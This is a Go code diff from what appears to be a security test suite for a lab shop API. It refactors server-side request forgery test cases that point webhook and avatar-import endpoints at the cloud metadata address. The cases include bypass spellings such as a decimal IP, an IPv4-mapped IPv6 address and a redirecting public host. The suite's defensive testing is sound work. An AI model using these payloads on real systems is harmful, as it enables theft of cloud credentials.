@@ -51,24 +51,19 @@ var urlFlaws = []Flaw{
 		Steps:   func(a *Attack) { webhookTo(a, "http://169.254.169.254"+metadataPath) }},
 	{ID: "SSRF-2", Title: "An avatar from an address written as one number", Class: "API7:2023", CWE: "CWE-918",
 		Control: "inspect.body: kind url, in all spellings",
-		Steps: func(a *Attack) {
-			r := a.exploit(Attacker, "POST", "/v1/customers/"+Attacker+"/avatar/import", fmt.Sprintf(`{"url":"http://2852039166%s"}`, metadataPath))
-			a.leak(r.has(metadataKey), "the machine's cloud credentials, quoted in the error")
-		}},
+		Steps:   func(a *Attack) { avatarFrom(a, "http://2852039166"+metadataPath) }},
 	{ID: "SSRF-3", Title: "A webhook to an IPv4 address dressed as IPv6", Class: "API7:2023", CWE: "CWE-918",
 		Control: "inspect.body: kind url, in all spellings",
 		Steps:   func(a *Attack) { webhookTo(a, "http://[::ffff:a9fe:a9fe]"+metadataPath) }},
 	{ID: "SSRF-4", Title: "An avatar from a public host that redirects inside", Class: "API7:2023", CWE: "CWE-601",
 		Why: "The URL in the request is a public one; where its server sends the shop is seen by the shop's HTTP client only. " +
 			"inspect.urls.only (a list of known hosts) or a guard on what leaves the shop stops it.",
-		Steps: func(a *Attack) {
-			r := a.exploit(Attacker, "POST", "/v1/customers/"+Attacker+"/avatar/import", `{"url":"https://`+detour+`/cat.png"}`)
-			a.leak(r.has(metadataKey), "the machine's cloud credentials, quoted in the error")
-		}},
+		Steps: func(a *Attack) { avatarFrom(a, "https://"+detour+"/cat.png") }},
 }
 
 // webhookTo registers a webhook and has it tested.
 func webhookTo(a *Attack, url string) {
+	before := a.lab.net.reached.Load()
 	r := a.exploit(Attacker, "POST", "/v1/webhooks", fmt.Sprintf(`{"url":"%s","events":["order.paid"]}`, url))
 	if !r.ok() {
 		return
@@ -80,5 +75,18 @@ func webhookTo(a *Attack, url string) {
 		}
 	})
 	r = a.send(Attacker, "POST", "/v1/webhooks/"+id+"/test", "")
-	a.leak(r.has(metadataKey), "the machine's cloud credentials, in the answer to the webhook's test")
+	a.reached(before, r)
+}
+
+func avatarFrom(a *Attack, url string) {
+	before := a.lab.net.reached.Load()
+	r := a.exploit(Attacker, "POST", "/v1/customers/"+Attacker+"/avatar/import", fmt.Sprintf(`{"url":"%s"}`, url))
+	a.reached(before, r)
+}
+
+// reached judges a forgery of requests by the server at its other end: that it was asked is the flaw, be the answer shown
+// or not.
+func (a *Attack) reached(before int64, r *answer) {
+	a.leak(r.has(metadataKey), "the machine's cloud credentials, in the answer")
+	a.leak(a.lab.net.reached.Load() > before, "the metadata service answered the shop, though its answer is not shown")
 }
